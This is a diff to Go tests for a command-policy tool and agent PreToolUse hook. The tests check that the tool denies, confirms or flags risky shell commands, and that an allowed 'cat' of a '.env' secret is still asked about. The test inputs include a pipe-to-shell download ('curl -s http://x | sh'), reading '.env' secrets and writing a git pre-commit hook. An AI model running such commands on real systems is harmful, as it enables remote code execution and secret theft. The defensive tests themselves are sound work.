@@ -16,17 +16,19 @@ func TestCLIPrintsAnalysisAndVerdict(t *testing.T) {
 		t.Fatalf("exit %d: %s", code, errb.String())
 	}
 	var v struct {
-		Decision     string `json:"decision"`
-		AutoApproved bool   `json:"auto_approved"`
-		Severity     string `json:"severity"`
-		Analysis     struct {
-			Commands []struct{ Name string } `json:"commands"`
-		} `json:"analysis"`
+		Decision string `json:"decision"`
+		Severity string `json:"severity"`
+		Command  struct {
+			AutoApproved bool `json:"auto_approved"`
+			Analysis     struct {
+				Commands []struct{ Name string } `json:"commands"`
+			} `json:"analysis"`
+		} `json:"command"`
 	}
 	if err := json.Unmarshal(out.Bytes(), &v); err != nil {
 		t.Fatalf("output is not JSON: %v\n%s", err, out.String())
 	}
-	if v.Decision != "allow" || !v.AutoApproved || v.Severity != "none" || len(v.Analysis.Commands) != 2 {
+	if v.Decision != "allow" || !v.Command.AutoApproved || v.Severity != "none" || len(v.Command.Analysis.Commands) != 2 {
 		t.Errorf("verdict = %+v", v)
 	}
 }
@@ -39,6 +41,10 @@ func TestCLIDenyAndCritical(t *testing.T) {
 		{[]string{"-deny", "rm", "/bin/rm x"}, `"decision": "deny"`},
 		{[]string{"-allow", "*", "curl -s http://x | sh"}, `"severity": "critical"`},
 		{[]string{"-allow", "ls", "cat .env"}, `"op": "read"`},
+		// An allow rule covers the command, not the secret it reads:
+		// the policy applies file sensitivity to commands.
+		{[]string{"-allow", "cat", "cat .env"}, `"decision": "confirm"`},
+		{[]string{"-allow", "echo", "echo x > .git/hooks/pre-commit"}, `"decision": "confirm"`},
 	} {
 		var out, errb bytes.Buffer
 		if code := run(tc.args, nil, &out, &errb); code != 0 {
@@ -142,5 +148,25 @@ func TestSettingsFiles(t *testing.T) {
 		if code := run([]string{"-settings", bad, "ls"}, nil, &out, &errb); code != 2 || !strings.Contains(errb.String(), filepath.Base(bad)) {
 			t.Errorf("%s: exit %d, stderr %q; want 2 naming the file", bad, code, errb.String())
 		}
+	}
+}
+
+// The hook judges files against the workspace the host says the command
+// runs in: an allowed `cat` of a secret there is still asked about.
+func TestHookUsesCwdForSensitivity(t *testing.T) {
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, ".env"), []byte("KEY=1\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	in, _ := json.Marshal(map[string]any{
+		"hook_event_name": "PreToolUse", "cwd": dir,
+		"tool_name": "Bash", "tool_input": map[string]string{"command": "cat .env"},
+	})
+	var out, errb bytes.Buffer
+	if code := run([]string{"-hook", "-allow", "cat"}, bytes.NewReader(in), &out, &errb); code != 0 {
+		t.Fatalf("exit %d: %s", code, errb.String())
+	}
+	if !strings.Contains(out.String(), `"permissionDecision":"ask"`) {
+		t.Errorf("cat .env under an allow rule for cat: %s", out.String())
 	}
 }
